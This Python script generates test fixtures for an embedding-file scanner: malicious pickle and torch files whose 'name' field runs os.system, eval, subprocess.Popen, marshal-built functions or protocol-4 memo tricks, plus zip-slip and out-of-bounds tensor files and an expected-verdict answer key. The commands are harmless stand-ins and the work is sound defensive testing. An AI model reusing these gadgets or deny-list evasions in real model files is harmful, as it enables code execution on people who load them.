#!/usr/bin/python3
"""Generate testdata/malicious/: embedding files that would run code or corrupt memory in a
pickle-based loader, plus testdata/malicious/expected.jsonl.

Run from the repository root:  /usr/bin/python3 testdata/gen/gen_malicious.py

NOTHING HERE IS EVER LOADED.  The files are assembled byte by byte (embgen.P) or written with
pickle.dumps/torch.save, which only serialise; no torch.load, pickle.load(s) or Unpickler ever
touches a malicious byte.  The payloads are harmless if someone does load them by mistake
('id', 'touch /tmp/embtool-pwned', an example.invalid URL, ...), but they are real attacks.

To show that each file is "otherwise valid", every gadget is first built as a *defanged twin*
(the same bytes with the gadget replaced by the harmless builtins.str('x')) and that twin, and
only the twin, is loaded with torch.load in memory.
"""

import io
import marshal
import os
import pickle
import pickletools
import struct
import sys
import zipfile

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import torch  # noqa: E402

import embgen as E  # noqa: E402
from embgen import P  # noqa: E402

OUT = E.out_dir("malicious")
RECORDS = []

# The exact 34-byte pickle of formats.md section 16.1: os.system('id') at protocol 2 on Linux.
POSIX_SYSTEM = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."

PWN = "touch /tmp/embtool-pwned"


def vec_bytes(n=1, seed=7):
    g = torch.Generator()
    g.manual_seed(seed)
    return E.le_bytes(torch.randn(n, 768, generator=g) * 0.0137)


DATA0 = vec_bytes()


def add(fname, data, verdict, reason, container, attack, reason_any=None):
    E.write_bytes(os.path.join(OUT, fname), data)
    any_ = [reason] + [r for r in (reason_any or []) if r != reason]
    RECORDS.append({"file": fname, "verdict": verdict, "reason_contains": reason, "reason_any": any_,
                    "container": container, "size": len(data), "sha256": E.sha256(data),
                    "attack": attack})
    print("%-40s %6d  %-6s %s" % (fname, len(data), verdict, reason))


# ---------------------------------------------------------------------------------------------
# gadget builders: each returns a function(P) that pushes exactly one value


def lit(p, v):
    """Push a Python literal (str, int, float, bool, None, list, tuple, empty dict)."""
    if v is None:
        p.none()
    elif v is True:
        p.true()
    elif v is False:
        p.false()
    elif isinstance(v, str):
        p.str(v)
    elif isinstance(v, int):
        p.int(v)
    elif isinstance(v, float):
        p.float(v)
    elif isinstance(v, list):
        p.empty_list()
        if v:
            p.mark()
            for x in v:
                lit(p, x)
            p.appends()
    elif isinstance(v, dict):
        assert not v
        p.empty_dict()
    elif callable(v):
        v(p)
    elif isinstance(v, tuple):
        p.mark()
        for x in v:
            lit(p, x)
        p.tuple()
    else:
        raise TypeError(v)
    return p


def call(module, name, *args):
    """module.name(*args) as GLOBAL + args tuple + REDUCE."""
    def push(p):
        p.global_(module, name)
        lit(p, tuple(args))
        p.reduce()
    return push


def call_on(fn_push, *args):
    """(value pushed by fn_push)(*args): REDUCE on a computed callable."""
    def push(p):
        fn_push(p)
        lit(p, tuple(args))
        p.reduce()
    return push


def codecs_bytes(b):
    """Python-3 bytes the way protocol 2 pickles them: _codecs.encode(latin-1 str, 'latin1')."""
    return call("_codecs", "encode", b.decode("latin-1"), "latin1")


DEFANGED = call("builtins", "str", "x")


def a1111_zip(name_value, prefix="archive", **kw):
    kw.setdefault("shape", (1, 768))
    return E.torch_zip(E.a1111_pickle(name_value=name_value, **kw), [("0", DATA0)], prefix=prefix)


def check_twin(build):
    """Load (in memory) the defanged twin of a gadget file: proves the rest is a valid file."""
    data = build(DEFANGED)
    obj = torch.load(io.BytesIO(data), map_location="cpu", weights_only=False)
    assert obj["name"] == "x" and obj["string_to_param"]["*"].shape == (1, 768), obj


def parses(data):
    """The opcode stream is well formed (pickletools only decodes, it does not execute)."""
    for _ in pickletools.genops(io.BytesIO(data)):
        pass
    return True


def gadget_file(fname, gadget, reason, attack, reason_any=None, verdict="unsafe"):
    check_twin(lambda g: a1111_zip(g))
    data = a1111_zip(gadget)
    parses(E.a1111_pickle(name_value=gadget, shape=(1, 768)))
    add(fname, data, verdict, reason, "zip", attack, reason_any)


# ---------------------------------------------------------------------------------------------


def main():
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))

    # 1. the canonical 34-byte pickle, raw and inside a valid torch zip
    class _R:
        def __reduce__(self):
            return (os.system, ("id",))
    assert len(POSIX_SYSTEM) == 34 and pickle.dumps(_R(), protocol=2) == POSIX_SYSTEM
    add("posix_system.pkl", POSIX_SYSTEM, "unsafe", "posix.system", "pickle",
        "the 34-byte pickle.dumps of os.system('id') at protocol 2 on Linux (formats.md 16.1), a bare pickle")
    add("posix_system_in_zip.pt",
        E.torch_zip(POSIX_SYSTEM, [("0", DATA0)]), "unsafe", "posix.system", "zip",
        "a valid torch zip (archive/data.pkl, data/0, version) whose data.pkl is the 34-byte os.system('id') pickle")

    # 2. classic callables hidden as the `name` value of an otherwise valid A1111 embedding
    gadget_file("a1111_name_eval.pt",
                call("builtins", "eval", "__import__('os').system('%s') and 'bad-hands-5'" % PWN),
                "builtins.eval",
                "valid A1111 embedding whose name is REDUCE(builtins.eval, (\"__import__('os').system(...)\",)): "
                "torch.load runs the command and still returns a working embedding")
    gadget_file("os_system.pt", call("os", "system", PWN), "os.system",
                "A1111 embedding whose name is os.system('touch /tmp/embtool-pwned') (module spelled 'os')",
                ["os.system", "posix.system"])
    gadget_file("nt_system.pt", call("nt", "system", "calc.exe"), "nt.system",
                "A1111 embedding pickled on Windows: nt.system('calc.exe')")
    gadget_file("builtins_getattr.pt",
                call_on(call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), PWN),
                "builtins.getattr",
                "getattr(__import__('os'), 'system')('...'): no os/posix GLOBAL at all, beats name deny-lists",
                ["builtins.getattr", "builtins.__import__"])
    gadget_file("builtins_import.pt", call("builtins", "__import__", "os"), "builtins.__import__",
                "name = __import__('os'): first stage that smuggles a module object out of the pickle")
    gadget_file("subprocess_popen.pt", call("subprocess", "Popen", ["sh", "-c", PWN]), "subprocess.Popen",
                "subprocess.Popen(['sh', '-c', 'touch /tmp/embtool-pwned'])")
    gadget_file("subprocess_check_output.pt", call("subprocess", "check_output", ["id"]),
                "subprocess.check_output", "subprocess.check_output(['id'])")
    gadget_file("runpy_run_code.pt", call("runpy", "_run_code", "import os; os.system('%s')" % PWN, {}),
                "runpy._run_code", "runpy._run_code(source, {}): exec without naming builtins.exec")
    gadget_file("importlib_import_module.pt", call("importlib", "import_module", "os"),
                "importlib.import_module", "importlib.import_module('os')")
    gadget_file("webbrowser_open.pt", call("webbrowser", "open", "https://example.invalid/pwned?victim=1"),
                "webbrowser.open", "webbrowser.open(url): phones home / opens a phishing page")
    gadget_file("socket_socket.pt", call("socket", "socket", 2, 1), "socket.socket",
                "socket.socket(AF_INET, SOCK_STREAM): first stage of a reverse shell")
    gadget_file("shutil_rmtree.pt", call("shutil", "rmtree", "/tmp/embtool-pwned-dir", True), "shutil.rmtree",
                "shutil.rmtree(path, ignore_errors=True): deletes a directory tree")
    gadget_file("nested_pickle_loads.pt", call("pickle", "loads", codecs_bytes(POSIX_SYSTEM)), "pickle.loads",
                "pickle.loads(_codecs.encode(<the os.system pickle>, 'latin1')): the outer pickle only names "
                "allow-listed-looking _codecs.encode besides pickle.loads", ["pickle.loads"])
    gadget_file("torch_load.pt", call("torch", "load", "/tmp/embtool-pwned.pt"), "torch.load",
                "torch.load('/tmp/...'): loads a second, unchecked file with the full unpickler")
    code = compile("__import__('os').system('%s')" % PWN, "<embedding>", "exec")
    gadget_file("marshal_function.pt",
                call_on(call("types", "FunctionType", call("marshal", "loads", codecs_bytes(marshal.dumps(code))), {})),
                "types.FunctionType",
                "types.FunctionType(marshal.loads(<code object>), {})(): a picklescan-bypass style gadget",
                ["types.FunctionType", "marshal.loads"])

    # 3. written by real torch.save / pickle.dumps (serialising only)
    class _Exec:
        def __reduce__(self):
            return (exec, ("import os; os.system('%s')" % PWN,))
    vec = torch.frombuffer(bytearray(DATA0), dtype=torch.float32).reshape(1, 768).clone()
    buf = io.BytesIO()
    torch.save({"string_to_token": {"*": 265}, "string_to_param": {"*": vec}, "name": "bad-hands-5",
                "step": 1364, "sd_checkpoint": "7ab762a7", "sd_checkpoint_name": _Exec()}, buf)
    data = buf.getvalue()
    assert b"c__builtin__\nexec\n" in zipfile.ZipFile(io.BytesIO(data)).read("archive/data.pkl")
    add("builtins_exec_torchsave.pt", data, "unsafe", "builtins.exec", "zip",
        "written by torch.save itself: sd_checkpoint_name's __reduce__ is exec(...); protocol 2 spells it "
        "__builtin__.exec (Python-2 name)", ["builtins.exec", "__builtin__.exec"])

    # the storage pickled by value: torch.storage._load_from_bytes (-> torch.load of nested bytes)
    small = vec[:1].clone()
    class ByValue(pickle.Pickler):
        # exactly TypedStorage.__reduce__ (torch/storage.py), with the legacy format's pointer key
        # made deterministic
        def reducer_override(self, obj):
            if isinstance(obj, torch.storage.TypedStorage):
                b = io.BytesIO()
                torch.save(obj, b, _use_new_zipfile_serialization=False)
                return (torch.storage._load_from_bytes, (E.normalise_legacy_keys(b.getvalue()),))
            return NotImplemented
    f = io.BytesIO()
    ByValue(f, protocol=2).dump({"string_to_token": {"*": 265}, "string_to_param": {"*": small},
                                 "name": "by-value", "step": 1, "sd_checkpoint": None,
                                 "sd_checkpoint_name": None})
    pk = f.getvalue()
    assert b"torch.storage\n_load_from_bytes\n" in pk
    add("torch_load_from_bytes.pt", E.torch_zip(pk), "unsafe", "torch.storage._load_from_bytes", "zip",
        "data.pkl is pickle.dumps(embedding dict): the tensor's storage is pickled by value as "
        "torch.storage._load_from_bytes(bytes), which calls torch.load on the nested bytes")

    # a whole nn.Module pickled (NEWOBJ + BUILD on a class that is not allow-listed)
    lin = torch.nn.Linear(2, 1)
    with torch.no_grad():
        lin.weight.zero_()
        lin.bias.zero_()
    buf = io.BytesIO()
    torch.save({"string_to_token": {"*": 265}, "string_to_param": {"*": vec}, "name": lin,
                "step": 0, "sd_checkpoint": None, "sd_checkpoint_name": None}, buf)
    add("build_module_class.pt", buf.getvalue(), "unsafe", "torch.nn.modules.linear.Linear", "zip",
        "torch.save of a dict holding a whole nn.Linear: GLOBAL torch.nn.modules.linear.Linear, NEWOBJ, "
        "BUILD with its state - a class outside the allow-list that the loader would instantiate and __setstate__",
        ["torch.nn.modules.linear.Linear", "NEWOBJ", "BUILD"])

    # 4. opcodes that instantiate without GLOBAL+REDUCE
    def inst(p):
        p.mark().str(PWN).op(b"i").raw(b"os\nsystem\n")
    gadget_file("inst_opcode.pt", inst, "os.system",
                "INST opcode (protocol 0): MARK 'cmd' INST 'os system' calls os.system without GLOBAL or REDUCE",
                ["os.system", "INST", "0x69"])

    def obj(p):
        p.mark().global_("posix", "system").str(PWN).op(b"o")
    gadget_file("obj_opcode.pt", obj, "posix.system",
                "OBJ opcode: MARK GLOBAL posix.system 'cmd' OBJ calls it without REDUCE",
                ["posix.system", "OBJ", "0x6f"])

    def build_dict(p):
        p.empty_dict().empty_dict().str("__class__").str("x").setitem().build()
    gadget_file("build_on_dict.pt", build_dict, "BUILD",
                "BUILD applied to a plain dict (state {'__class__': ...}): BUILD is only legal on Tensor, "
                "Parameter, OrderedDict and ParameterDict", ["BUILD", "build"])

    # 5. protocol 4: STACK_GLOBAL whose module/name strings were memoised earlier as harmless values
    def proto4(module, name, arg):
        body = P(proto=None)
        m = [0]

        def memo():
            body.memoize()
            m[0] += 1
            return m[0] - 1

        def sg(mod, nm):
            body.short_str(mod)
            memo()
            body.short_str(nm)
            memo()
            body.stack_global()
            memo()

        body.empty_dict()
        memo()
        body.mark()
        body.short_str("sd_checkpoint_name")
        memo()
        body.short_str(module)
        i_mod = memo()  # looks like a harmless metadata value
        body.short_str("sd_checkpoint")
        memo()
        body.short_str(name)
        i_name = memo()
        body.short_str("string_to_token")
        memo()
        body.empty_dict()
        memo()
        body.short_str("*")
        i_star = memo()
        body.int(265).setitem()
        body.short_str("string_to_param")
        memo()
        body.empty_dict()
        memo()
        body.get(i_star)  # '*' again, by BINGET
        sg("torch._utils", "_rebuild_tensor_v2")
        body.mark()
        body.mark()
        body.short_str("storage")
        memo()
        sg("torch", "FloatStorage")
        body.short_str("0")
        memo()
        body.short_str("cpu")
        memo()
        body.int(768).tuple()
        memo()
        body.binpersid()
        body.int(0).int(1).int(768).tuple2().int(768).int(1).tuple2().false()
        sg("collections", "OrderedDict")
        body.empty_tuple().reduce()
        memo()
        body.tuple()
        memo()
        body.reduce()
        memo()
        body.setitem()
        body.short_str("name")
        memo()
        body.get(i_mod).get(i_name).stack_global()  # module and name fetched from the memo
        memo()
        body.short_str(arg)
        memo()
        body.tuple1()
        memo()
        body.reduce()
        memo()
        body.short_str("step")
        memo()
        body.int(1000)
        body.setitems()
        body.stop()
        b = body.bytes()
        return b"\x80\x04\x95" + struct.pack("<Q", len(b)) + b

    twin = proto4("builtins", "str", "x")
    obj_ = torch.load(io.BytesIO(E.torch_zip(twin, [("0", DATA0)])), map_location="cpu", weights_only=False)
    assert obj_["name"] == "x" and obj_["sd_checkpoint_name"] == "builtins", obj_
    pk4 = proto4("posix", "system", "id")
    parses(pk4)
    add("stack_global_memo.pt", E.torch_zip(pk4, [("0", DATA0)]), "unsafe", "posix.system", "zip",
        "protocol 4: 'posix' and 'system' first appear as innocent metadata values (sd_checkpoint_name, "
        "sd_checkpoint), are MEMOIZEd, and the name value is BINGET, BINGET, STACK_GLOBAL, REDUCE: no "
        "'posix system' text anywhere near the call", ["posix.system", "STACK_GLOBAL", "0x93", "protocol"])

    # 6. structural attacks (CVE-2026-24747 style) -------------------------------------------
    def setitem_list(p):
        p.empty_list().str("k").str("v").setitem()
    check_twin(lambda g: a1111_zip(g))
    add("setitem_on_list.pt", a1111_zip(setitem_list), "error", "SETITEM", "zip",
        "SETITEM whose target is a list, not a dict (weights_only checks this since the CVE-2026-24747 fix)",
        ["SETITEM", "setitem", "list"])

    def setitem_tensor(p):
        p.tensor("0", [1, 768])
        p.int(10 ** 6).float(1.0).setitem()
    add("setitem_on_tensor.pt", a1111_zip(setitem_tensor), "error", "SETITEM", "zip",
        "SETITEM on a tensor: tensor[1000000] = 1.0, an out-of-bounds write in a real unpickler "
        "(CVE-2026-24747, first half)", ["SETITEM", "setitem", "tensor"])

    add("storage_too_small.pt",
        E.torch_zip(E.a1111_pickle(shape=(8, 768), numel=768), [("0", DATA0)]), "error", "storage", "zip",
        "tensor view [8,768] over a storage of 768 elements (record 3072 bytes): reads past the storage",
        ["storage", "bounds", "holds", "exceed"])
    add("storage_size_mismatch.pt",
        E.torch_zip(E.a1111_pickle(shape=(1, 768), numel=768), [("0", DATA0[:2048])]), "error", "bytes", "zip",
        "storage record data/0 holds 2048 bytes but the pickle claims 768 float32 elements (3072 bytes): "
        "CVE-2026-24747, second half", ["bytes", "size", "data/0", "3072"])

    # 7. zip-level tricks ----------------------------------------------------------------------
    good_pkl = E.a1111_pickle(shape=(1, 768))
    add("extra_pkl.pt",
        E.torch_zip(good_pkl, [("0", DATA0)], extra_entries=[("archive/extra.pkl", POSIX_SYSTEM)]),
        "error", "extra.pkl", "zip",
        "a valid embedding plus archive/extra.pkl holding the os.system pickle: torch ignores it, a scanner "
        "that only reads data.pkl misses it, A1111's name check rejects it", ["extra.pkl", "posix.system"])
    add("two_data_pkl.pt",
        E.zip_bytes([("archive/data.pkl", good_pkl), ("archive/data/0", DATA0),
                     ("archive/data.pkl", POSIX_SYSTEM), ("archive/version", b"3\n")]),
        "error", "data.pkl", "zip",
        "two archive/data.pkl entries, the first harmless and the second the os.system pickle: which one a "
        "reader picks is up to its zip library", ["data.pkl", "duplicate", "posix.system"])
    add("zip_dotdot.pt",
        E.torch_zip(good_pkl, [("0", DATA0)], extra_entries=[("../evil", b"#!/bin/sh\n" + PWN.encode() + b"\n")]),
        "error", "../evil", "zip",
        "a valid embedding plus an entry named ../evil (zip-slip: an extractor would write outside the folder)",
        ["../evil", "evil", "insecure", "outside"])
    add("zip_dotdot_in_prefix.pt",
        E.torch_zip(good_pkl, [("0", DATA0)],
                    extra_entries=[("archive/data/../../evil", b"#!/bin/sh\n" + PWN.encode() + b"\n")]),
        "error", "evil", "zip",
        "entry archive/data/../../evil: starts with the archive prefix but escapes it",
        ["evil", "insecure", "outside", ".."])

    # 8. legacy (non-zip) format with os.system ------------------------------------------------
    key = "94557139474528"

    def legacy(g):
        return E.legacy_file(E.a1111_pickle(name_value=g, key=key, legacy=True, shape=(1, 768)), [(key, 768, DATA0)])
    twin = legacy(DEFANGED)
    obj_ = torch.load(io.BytesIO(twin), map_location="cpu", weights_only=False)
    assert obj_["name"] == "x" and torch.equal(obj_["string_to_param"]["*"], vec)
    add("legacy_os_system.pt", legacy(call("os", "system", PWN)), "unsafe", "os.system", "legacy",
        "legacy non-zip torch file (magic, protocol, sys_info, object, keys, storages) whose name is "
        "os.system('touch /tmp/embtool-pwned')", ["os.system", "posix.system"])

    E.write_jsonl(os.path.join(OUT, "expected.jsonl"), RECORDS)
    total = sum(os.path.getsize(os.path.join(OUT, f)) for f in os.listdir(OUT))
    print("%d malicious files, %d bytes in testdata/malicious" % (len(RECORDS), total))


if __name__ == "__main__":
    main()
